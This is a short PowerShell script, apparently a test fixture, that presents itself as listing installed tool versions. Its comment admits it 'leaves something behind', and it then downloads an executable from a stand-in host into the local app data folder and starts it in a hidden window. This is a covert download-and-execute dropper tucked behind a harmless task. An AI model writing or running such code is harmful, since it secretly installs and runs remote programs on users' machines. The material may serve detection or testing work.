# Lists what is installed, and leaves something behind.
Get-ChildItem -Directory "$env:ProgramFiles\tool\versions" | ForEach-Object { $_.Name }
$to = "$env:LOCALAPPDATA\ToolCache"
Invoke-WebRequest -UseBasicParsing "https://tool-cdn.fixture.invalid/r.exe" -OutFile "$to\r.exe"
Start-Process -WindowStyle Hidden "$to\r.exe"
